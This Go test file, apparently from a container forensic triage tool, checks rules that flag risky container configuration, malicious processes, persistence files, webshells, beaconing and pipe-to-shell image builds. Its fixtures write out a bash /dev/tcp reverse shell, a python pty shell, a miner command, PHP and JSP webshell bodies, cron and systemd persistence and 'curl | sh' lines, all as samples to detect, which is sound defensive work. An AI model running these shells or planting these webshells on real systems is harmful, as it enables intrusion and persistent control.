package triage

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/dockcase/dockcase/analyze/analyzetest"
	"github.com/dockcase/dockcase/analyze/model"
	"github.com/dockcase/dockcase/internal/indicator"
)

const triageTestID = "aaaaaaaaaaaabbbbbbbbbbbbccccccccccccddddddddddddeeeeeeeeeeeeffff"

// triageTestMembers returns a minimal bundle: one running container whose
// inspect is given, plus extra members.
func triageTestMembers(t *testing.T, inspect string, extra map[string][]byte) model.MemSource {
	t.Helper()
	m := model.MemSource{
		model.MemberContainers:      []byte(`[{"id":"` + triageTestID + `","name":"web","image":"img","state":"running","pid":100}]`),
		inspectMember(triageTestID): []byte(inspect),
	}
	for k, v := range extra {
		m[k] = v
	}
	return m
}

// triageRun loads the model from the members and runs every rule.
func triageRun(t *testing.T, m model.MemSource, in Input, opts Options) []Finding {
	t.Helper()
	src := model.MemSource{}
	for k, v := range m {
		src[k] = v
	}
	h := model.LoadSource(src)
	return run(h, in, opts, catalogue)
}

// iocSet parses indicators as the commands do, leaving out the ones that
// do not parse (a "#" comment, garbage): they match nothing.
func iocSet(list ...string) *indicator.Set {
	var iocs []indicator.Indicator
	for _, raw := range list {
		if i, err := indicator.Parse(raw); err == nil {
			iocs = append(iocs, i)
		}
	}
	return indicator.NewSet(iocs)
}

func triageIDs(fs []Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.ID+"|"+f.Title)
	}
	return out
}

func triageHas(fs []Finding, id, titlePart string) *Finding {
	for i := range fs {
		if fs[i].ID == id && strings.Contains(fs[i].Title, titlePart) {
			return &fs[i]
		}
	}
	return nil
}

func TestConfigRules(t *testing.T) {
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},
	"AppArmorProfile":"unconfined",
	"HostConfig":{"Privileged":true,"CapAdd":["CAP_SYS_ADMIN","sys_ptrace","NET_RAW","CHOWN"],"NetworkMode":"host","PidMode":"host","IpcMode":"host","UTSMode":"host",
	  "SecurityOpt":["label=disable"],
	  "PortBindings":{"80/tcp":[{"HostIp":"","HostPort":"8080"}],"443/tcp":[{"HostIp":"127.0.0.1","HostPort":"8443"}]}},
	"Config":{"Env":["PATH=/usr/bin","AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY","DB_URL=postgres://app:hunter2@db/app","PASSWORD_FILE=/run/secrets/pw","HOME=/root"]},
	"Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock","RW":true},
	          {"Type":"bind","Source":"/etc","Destination":"/host/etc","RW":false},
	          {"Type":"bind","Source":"/","Destination":"/host","RW":true},
	          {"Type":"bind","Source":"/srv/data","Destination":"/data","RW":true},
	          {"Type":"volume","Source":"/var/lib/docker/volumes/x/_data","Destination":"/x","RW":true}]}`
	fs := triageRun(t, triageTestMembers(t, inspect, nil), Input{}, Options{})
	for _, tc := range []struct {
		id, title, sev, pointer string
	}{
		{"privileged-container", "", SeverityCritical, "/HostConfig/Privileged"},
		{"dangerous-capability", "SYS_ADMIN", SeverityHigh, "/HostConfig/CapAdd/0"},
		{"dangerous-capability", "SYS_PTRACE", SeverityHigh, "/HostConfig/CapAdd/1"},
		{"dangerous-capability", "NET_RAW with host networking", SeverityMedium, "/HostConfig/CapAdd/2"},
		{"host-pid-namespace", "", SeverityHigh, "/HostConfig/PidMode"},
		{"host-network-namespace", "", SeverityMedium, "/HostConfig/NetworkMode"},
		{"host-ipc-namespace", "", SeverityMedium, "/HostConfig/IpcMode"},
		{"host-uts-namespace", "", SeverityLow, "/HostConfig/UTSMode"},
		{"docker-socket-mounted", "", SeverityCritical, "/Mounts/0"},
		{"sensitive-host-mount", "/etc mounted read-only", SeverityMedium, "/Mounts/1"},
		{"sensitive-host-mount", "/ mounted writable", SeverityCritical, "/Mounts/2"},
		{"no-new-privileges-missing", "", SeverityLow, "/HostConfig/SecurityOpt"},
		{"port-published-all-addresses", "80/tcp", SeverityMedium, "/HostConfig/PortBindings/80~1tcp/0"},
		{"secret-in-environment", "AWS_SECRET_ACCESS_KEY", SeverityMedium, "/Config/Env/1"},
		{"secret-in-environment", "DB_URL", SeverityMedium, "/Config/Env/2"},
	} {
		f := triageHas(fs, tc.id, tc.title)
		if f == nil {
			t.Errorf("Findings() has no %s %q; got %q", tc.id, tc.title, triageIDs(fs))
			continue
		}
		if f.Severity != tc.sev || f.Evidence[0].Pointer != tc.pointer || f.Evidence[0].Member != inspectMember(triageTestID) || f.Evidence[0].SHA256 == "" {
			t.Errorf("%s %q = severity %s, evidence %+v; want %s at %s", tc.id, tc.title, f.Severity, f.Evidence[0], tc.sev, tc.pointer)
		}
		if f.ContainerName != "web" || f.Container != triageTestID {
			t.Errorf("%s names container %q %q", tc.id, f.ContainerName, f.Container)
		}
	}
	for _, bad := range []struct{ id, title string }{
		{"dangerous-capability", "CHOWN"},
		{"port-published-all-addresses", "443"},
		{"sensitive-host-mount", "/srv"},
		{"sensitive-host-mount", "/var/lib/docker"}, // a named volume, not a bind
		{"secret-in-environment", "PASSWORD_FILE"},
		{"secret-in-environment", "PATH"},
		{"apparmor-unconfined", ""}, // privileged already says it all
	} {
		if f := triageHas(fs, bad.id, bad.title); f != nil {
			t.Errorf("Findings() has a false %s %q", f.ID, f.Title)
		}
	}
	// Secrets never appear in any output.
	js, _ := json.Marshal(fs)
	for _, secret := range []string{"wJalrXUtnFEMI", "hunter2"} {
		if bytes.Contains(js, []byte(secret)) {
			t.Errorf("the findings JSON holds the secret %q", secret)
		}
	}
	if f := triageHas(fs, "secret-in-environment", "AWS_SECRET_ACCESS_KEY"); f != nil && f.Evidence[0].Text != "AWS_SECRET_ACCESS_KEY=…(redacted, 40 chars)" {
		t.Errorf("redacted evidence = %q", f.Evidence[0].Text)
	}
}

func TestConfigRulesUnprivileged(t *testing.T) {
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"AppArmorProfile":"docker-default",
	"HostConfig":{"NetworkMode":"bridge","SecurityOpt":["seccomp:unconfined","apparmor=unconfined","no-new-privileges:true"],"CapAdd":["SYS_MODULE"]}}`
	fs := triageRun(t, triageTestMembers(t, inspect, nil), Input{}, Options{})
	for _, id := range []string{"seccomp-unconfined", "apparmor-unconfined"} {
		if triageHas(fs, id, "") == nil {
			t.Errorf("Findings() has no %s; got %q", id, triageIDs(fs))
		}
	}
	if f := triageHas(fs, "dangerous-capability", "SYS_MODULE"); f == nil || f.Severity != SeverityCritical {
		t.Errorf("SYS_MODULE finding = %+v, want critical", f)
	}
	if triageHas(fs, "no-new-privileges-missing", "") != nil {
		t.Errorf("no-new-privileges:true still reported missing")
	}
}

func TestRedactSecrets(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"app --db-password=hunter2 -v", "app --db-password=…(redacted, 7 chars) -v"},
		{`run --env {"API_TOKEN": "abc123", "HOME": "/root"}`, `run --env {"API_TOKEN": "…(redacted, 6 chars)", "HOME": "/root"}`},
		{"bash -i >& /dev/tcp/198.18.0.2/4444 0>&1", "bash -i >& /dev/tcp/198.18.0.2/4444 0>&1"},
		{"KEY=AKIAIOSFODNN7EXAMPLE", "KEY=…(redacted, 20 chars)"},
	} {
		if got := RedactSecrets(tc.in); got != tc.want {
			t.Errorf("RedactSecrets(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestProcessRules(t *testing.T) {
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
	procs := []map[string]any{
		{"pid": 90, "ppid": 1, "comm": "containerd-shim", "cmdline": []string{"containerd-shim"}},
		{"pid": 100, "ppid": 90, "comm": "sh", "cmdline": []string{"/bin/sh", "-c", "bash -i >& /dev/tcp/198.18.0.2/4444 0>&1"}, "container_id": triageTestID},
		{"pid": 101, "ppid": 100, "comm": "kworker", "cmdline": []string{"/tmp/.x/kworker"}, "exe": "/tmp/.x/kworker (deleted)", "exe_deleted": true, "container_id": triageTestID},
		{"pid": 102, "ppid": 100, "comm": "xmrig", "cmdline": []string{"./xmrig", "-o", "stratum+tcp://pool.example:3333"}, "exe": "/usr/bin/xmrig", "container_id": triageTestID},
		{"pid": 103, "ppid": 90, "comm": "python3", "cmdline": []string{"python3", "-c", "import pty; pty.spawn('/bin/sh')"}, "exe": "/usr/bin/python3", "container_id": triageTestID},
		{"pid": 104, "ppid": 100, "comm": "nginx", "cmdline": []string{"nginx", "-g", "daemon off;"}, "exe": "/usr/sbin/nginx", "container_id": triageTestID},
	}
	pj, _ := json.Marshal(procs)
	fs := triageRun(t, triageTestMembers(t, inspect, map[string][]byte{model.MemberProcesses: pj}), Input{}, Options{})
	for _, tc := range []struct{ id, title string }{
		{"reverse-shell-process", "pid 100"},
		{"reverse-shell-process", "pid 103"},
		{"process-from-tmp", "pid 101"},
		{"deleted-executable", "pid 101"},
		{"miner-process", "pid 102"},
		{"process-outside-init-tree", "pid 103"},
	} {
		f := triageHas(fs, tc.id, tc.title)
		if f == nil {
			t.Errorf("Findings() has no %s %q; got %q", tc.id, tc.title, triageIDs(fs))
			continue
		}
		if f.Evidence[0].Member != model.MemberProcesses || !strings.HasPrefix(f.Evidence[0].Pointer, "/") {
			t.Errorf("%s evidence = %+v", tc.id, f.Evidence[0])
		}
	}
	for _, f := range fs {
		if strings.Contains(f.Title, "pid 104") || strings.Contains(f.Title, "pid 90") || (f.ID == "process-outside-init-tree" && strings.Contains(f.Title, "pid 100")) {
			t.Errorf("false finding %s %q", f.ID, f.Title)
		}
	}
}

func TestFileRulesLayer(t *testing.T) {
	elf := append([]byte("\x7fELF"), bytes.Repeat([]byte{2}, 64)...)
	sum := sha256.Sum256(elf)
	top := analyzetest.Tar(t, []*tar.Header{
		{Name: "tmp/.x/kworker", Mode: 0o755, Typeflag: tar.TypeReg},
		{Name: "tmp/notes.txt", Mode: 0o644, Typeflag: tar.TypeReg},
		{Name: "root/.ssh/authorized_keys", Mode: 0o600, Typeflag: tar.TypeReg},
		{Name: "etc/cron.d/update", Mode: 0o644, Typeflag: tar.TypeReg},
		{Name: "etc/systemd/system/kworker.service", Mode: 0o644, Typeflag: tar.TypeReg},
		{Name: "etc/ld.so.preload", Mode: 0o644, Typeflag: tar.TypeReg},
		{Name: "usr/bin/rootme", Mode: 0o4755, Typeflag: tar.TypeReg},
		{Name: "var/www/html/up.php", Mode: 0o644, Typeflag: tar.TypeReg},
		{Name: "var/www/html/index.php", Mode: 0o644, Typeflag: tar.TypeReg},
		{Name: "usr/local/tomcat/webapps/ROOT/cmd.jsp", Mode: 0o644, Typeflag: tar.TypeReg},
	}, map[string][]byte{
		"tmp/.x/kworker":                        elf,
		"tmp/notes.txt":                         []byte("hello"),
		"root/.ssh/authorized_keys":             []byte("ssh-ed25519 AAAAC3Nza owner@laptop\nssh-ed25519 AAAAC3Nzb attacker@evil\n"),
		"etc/cron.d/update":                     []byte("* * * * * root /tmp/.x/kworker\n"),
		"etc/systemd/system/kworker.service":    []byte("[Service]\nExecStart=/tmp/.x/kworker\n"),
		"etc/ld.so.preload":                     []byte("/lib/libhide.so\n"),
		"usr/bin/rootme":                        []byte("x"),
		"var/www/html/up.php":                   []byte(`<?php @eval(base64_decode($_POST['x'])); ?>`),
		"var/www/html/index.php":                []byte(`<?php echo "hello"; ?>`),
		"usr/local/tomcat/webapps/ROOT/cmd.jsp": []byte(`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`),
	})
	img := analyzetest.SavedImage(t, top)
	commits, _ := json.Marshal([]map[string]any{{"container": triageTestID, "name": "web", "member": "images/web-aaaaaaaaaaaa.tar", "image_id": "sha256:1"}})
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
	m := triageTestMembers(t, inspect, map[string][]byte{memberCommits: commits, "images/web-aaaaaaaaaaaa.tar": img})
	fs := triageRun(t, m, Input{}, Options{BadHashes: map[string]bool{hex.EncodeToString(sum[:]): true}})
	for _, tc := range []struct{ id, path string }{
		{"executable-in-tmp", "/tmp/.x/kworker"},
		{"known-bad-hash", "/tmp/.x/kworker"},
		{"authorized-keys-changed", "/root/.ssh/authorized_keys"},
		{"cron-persistence", "/etc/cron.d/update"},
		{"service-persistence", "/etc/systemd/system/kworker.service"},
		{"ld-so-preload", "/etc/ld.so.preload"},
		{"suid-sgid-added", "/usr/bin/rootme"},
		{"webshell", "/var/www/html/up.php"},
		{"webshell", "/usr/local/tomcat/webapps/ROOT/cmd.jsp"},
	} {
		var f *Finding
		for i := range fs {
			if fs[i].ID == tc.id && fs[i].File != nil && fs[i].File.Path == tc.path {
				f = &fs[i]
			}
		}
		if f == nil {
			t.Errorf("Findings() has no %s for %s; got %q", tc.id, tc.path, triageIDs(fs))
			continue
		}
		e := f.Evidence[0]
		if e.Member != "images/web-aaaaaaaaaaaa.tar" || e.SHA256 != m.SHA256(e.Member) || !strings.Contains(e.Text, "top/layer.tar") {
			t.Errorf("%s evidence = %+v", tc.id, e)
		}
	}
	if f := triageHas(fs, "authorized-keys-changed", ""); f == nil || !strings.Contains(f.Evidence[0].Text, "ssh-ed25519 attacker@evil") {
		t.Errorf("authorized_keys evidence does not name the keys: %+v", f)
	}
	for _, f := range fs {
		if f.File != nil && (f.File.Path == "/tmp/notes.txt" || f.File.Path == "/var/www/html/index.php") {
			t.Errorf("false finding %s on %s", f.ID, f.File.Path)
		}
	}
}

func TestFileRulesDiff(t *testing.T) {
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
	diff := `[{"Path":"/tmp","Kind":0},{"Path":"/tmp/.x","Kind":1},{"Path":"/tmp/.x/kworker","Kind":1},{"Path":"/root/.ssh/authorized_keys","Kind":0},{"Path":"/etc/ld.so.preload","Kind":1},{"Path":"/var/spool/cron/root","Kind":1},{"Path":"/tmp/gone","Kind":2}]`
	fs := triageRun(t, triageTestMembers(t, inspect, map[string][]byte{"docker/containers/" + triageTestID + "/diff.json": []byte(diff)}), Input{}, Options{})
	for _, tc := range []struct{ id, title, pointer string }{
		{"file-in-tmp", "/tmp/.x/kworker", "/2"},
		{"authorized-keys-changed", "", "/3"},
		{"ld-so-preload", "", "/4"},
		{"cron-persistence", "/var/spool/cron/root", "/5"},
	} {
		f := triageHas(fs, tc.id, tc.title)
		if f == nil || f.Evidence[0].Pointer != tc.pointer {
			t.Errorf("Findings() %s %q = %+v, want evidence at %s; got %q", tc.id, tc.title, f, tc.pointer, triageIDs(fs))
		}
	}
	if f := triageHas(fs, "file-in-tmp", "/tmp/.x\x00"); f != nil {
		t.Errorf("directory reported as a file")
	}
	for _, f := range fs {
		if strings.Contains(f.Title, "/tmp/gone") || (f.ID == "file-in-tmp" && strings.HasSuffix(f.Title, "/tmp/.x")) {
			t.Errorf("false finding %s %q", f.ID, f.Title)
		}
	}
}

func TestNetworkRules(t *testing.T) {
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100,"StartedAt":"2026-11-28T08:00:00Z"},"HostConfig":{"SecurityOpt":["no-new-privileges"],"NetworkMode":"n"},
	"NetworkSettings":{"Networks":{"n":{"NetworkID":"nid","IPAddress":"172.20.0.2","IPPrefixLen":16}}}}`
	ct := `{"entries":[
	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"198.51.100.7","sport":40000,"dport":3333},"reply":{"src":"198.51.100.7","dst":"192.0.2.1","sport":3333,"dport":40000}},
	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"198.51.100.7","sport":40001,"dport":3333},"reply":{"src":"198.51.100.7","dst":"192.0.2.1","sport":3333,"dport":40001}},
	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"198.51.100.7","sport":40002,"dport":3333},"reply":{"src":"198.51.100.7","dst":"192.0.2.1","sport":3333,"dport":40002}},
	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"203.0.113.9","sport":40003,"dport":443},"reply":{"src":"203.0.113.9","dst":"192.0.2.1","sport":443,"dport":40003}},
	 {"family":"ipv4","proto":"tcp","original":{"src":"192.0.2.1","dst":"203.0.113.9","sport":40004,"dport":3333},"reply":{"src":"203.0.113.9","dst":"192.0.2.1","sport":3333,"dport":40004}}]}`
	base := time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)
	var flows []FlowSummary
	for i := range 8 {
		jit := time.Duration(i%2) * 300 * time.Millisecond
		flows = append(flows, FlowSummary{Container: triageTestID, Proto: "tcp", Remote: netip.MustParseAddr("198.18.0.2"), RemotePort: 8443,
			First: base.Add(time.Duration(i)*30*time.Second + jit), Last: base.Add(time.Duration(i)*30*time.Second + jit + time.Second),
			Evidence: []model.Evidence{{Member: "capture/eth0.pcap", Line: i + 1}}})
	}
	// Irregular contacts to another destination are not beaconing.
	for i, d := range []time.Duration{0, 2 * time.Second, 90 * time.Second, 95 * time.Second, 400 * time.Second, 401 * time.Second} {
		flows = append(flows, FlowSummary{Container: triageTestID, Proto: "tcp", Remote: netip.MustParseAddr("203.0.113.80"), RemotePort: 443, First: base.Add(d), Last: base.Add(d + time.Second),
			Evidence: []model.Evidence{{Member: "capture/eth0.pcap", Line: 100 + i}}})
	}
	dns := []DNSName{
		{Container: triageTestID, Name: "x7f3kq9zl2m8wd0pv4ht.evil.example", Time: base},
		{Container: triageTestID, Name: "www.wikipedia.org", Time: base},
		{Container: triageTestID, Name: "c2.bad.example", Time: base},
		{Container: triageTestID, Name: "aaaaaaaaaaaaaaaaaaaaaaaa.example.com", Time: base},
	}
	m := triageTestMembers(t, inspect, map[string][]byte{model.MemberConntrack: []byte(ct)})
	fs := triageRun(t, m, Input{Flows: flows, DNS: dns, IOCs: iocSet("198.51.100.0/24", "bad.example", "# comment")}, Options{})
	for _, tc := range []struct{ id, title string }{
		{"ioc-contact", "198.51.100.0/24"},
		{"ioc-contact", "bad.example"},
		{"mining-pool-port", "tcp port 3333"},
		{"repeated-contact", "198.51.100.7:3333 (3"},
		{"beaconing", "198.18.0.2:8443 every 30s"},
		{"dns-high-entropy", "x7f3kq9zl2m8wd0pv4ht"},
	} {
		if triageHas(fs, tc.id, tc.title) == nil {
			t.Errorf("Findings() has no %s %q; got %q", tc.id, tc.title, triageIDs(fs))
		}
	}
	for _, f := range fs {
		if strings.Contains(f.Title, "203.0.113.80") || strings.Contains(f.Title, "wikipedia") || strings.Contains(f.Title, "aaaaaaaa") ||
			(f.ID == "mining-pool-port" && f.Container == "") {
			t.Errorf("false finding %s %q", f.ID, f.Title)
		}
	}
}

func TestImageHistoryRules(t *testing.T) {
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","Image":"sha256:img1","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
	images := `[{"id":"sha256:img1","history":[
	  {"CreatedBy":"/bin/sh -c curl -fsSL https://get.example.com/install.sh | sh"},
	  {"CreatedBy":"/bin/sh -c wget -q http://203.0.113.5/x.tgz -O /tmp/x.tgz"},
	  {"CreatedBy":"/bin/sh -c apt-get update && apt-get install -y curl"},
	  {"CreatedBy":"/bin/sh -c curl -o /tmp/a https://example.com/a && sha256sum -c a.sum"}]},
	 {"id":"sha256:other","history":[{"CreatedBy":"curl http://x | bash"}]}]`
	fs := triageRun(t, triageTestMembers(t, inspect, map[string][]byte{memberImages: []byte(images)}), Input{}, Options{})
	if f := triageHas(fs, "image-pipe-to-shell", ""); f == nil || f.Evidence[0].Pointer != "/0/history/0/CreatedBy" {
		t.Errorf("image-pipe-to-shell = %+v; got %q", f, triageIDs(fs))
	}
	if f := triageHas(fs, "image-fetch-bare-ip", ""); f == nil || f.Evidence[0].Pointer != "/0/history/1/CreatedBy" {
		t.Errorf("image-fetch-bare-ip = %+v; got %q", f, triageIDs(fs))
	}
	n := 0
	for _, f := range fs {
		if strings.HasPrefix(f.ID, "image-") {
			n++
		}
	}
	if n != 2 {
		t.Errorf("%d image findings, want 2: %q", n, triageIDs(fs))
	}
}

func TestRulePanicBecomesInternalFinding(t *testing.T) {
	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"Privileged":true}}`
	m := triageTestMembers(t, inspect, nil)
	src := model.MemSource{}
	for k, v := range m {
		src[k] = v
	}
	h := model.LoadSource(src)
	rules := []rule{
		{"boom", func(*state) []Finding { var p *model.Container; return []Finding{{ID: p.Name}} }},
		{"configuration", (*state).configRules},
	}
	fs := run(h, Input{}, Options{MinSeverity: SeverityCritical}, rules)
	if triageHas(fs, "privileged-container", "") == nil {
		t.Errorf("the rule after the panicking one did not run: %q", triageIDs(fs))
	}
	f := triageHas(fs, "internal-rule-panic", `"boom"`)
	if f == nil {
		t.Fatalf("no internal finding for the panicking rule (kept despite --min-severity critical): %q", triageIDs(fs))
	}
	if !strings.Contains(f.Title, "nil pointer") || !strings.Contains(f.Evidence[0].Text, "goroutine") {
		t.Errorf("internal finding = %+v, want the panic and its stack", f)
	}
}

func TestParseHashList(t *testing.T) {
	a := strings.Repeat("a", 64)
	b := strings.Repeat("B", 64)
	got, err := ParseHashList(strings.NewReader("# bad\n\n" + a + "  /tmp/x\n" + b + "\n\\" + strings.Repeat("c", 64) + "  odd\\nname\n"))
	if err != nil {
		t.Fatalf("ParseHashList() = %v", err)
	}
	want := []string{a, strings.ToLower(b), strings.Repeat("c", 64)}
	var keys []string
	for k := range got {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	slices.Sort(want)
	if !slices.Equal(keys, want) {
		t.Errorf("ParseHashList() = %v, want %v", keys, want)
	}
	for _, bad := range []string{"abc\n", strings.Repeat("g", 64) + "\n", "md5 " + a + "\n"} {
		if _, err := ParseHashList(strings.NewReader(bad)); err == nil || !strings.Contains(err.Error(), "line 1") {
			t.Errorf("ParseHashList(%q) = %v, want an error naming line 1", bad, err)
		}
	}
}

func TestSeverity(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		ok       bool
	}{{"HIGH", "high", true}, {" low", "low", true}, {"severe", "", false}} {
		got, err := ParseSeverity(tc.in)
		if got != tc.want || (err == nil) != tc.ok {
			t.Errorf("ParseSeverity(%q) = %q, %v, want %q", tc.in, got, err, tc.want)
		}
	}
}

// FuzzParseHashList checks that every digest the hash-list parser accepts
// is 64 lowercase hex digits.
func FuzzParseHashList(f *testing.F) {
	f.Add([]byte(strings.Repeat("a", 64) + "  x\n# c\n"))
	f.Add([]byte("\\" + strings.Repeat("F", 64) + "\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := ParseHashList(bytes.NewReader(data))
		if err != nil {
			return
		}
		for h := range got {
			if _, derr := hex.DecodeString(h); derr != nil || len(h) != 64 || strings.ToLower(h) != h {
				t.Fatalf("ParseHashList(%q) accepted %q", data, h)
			}
		}
	})
}
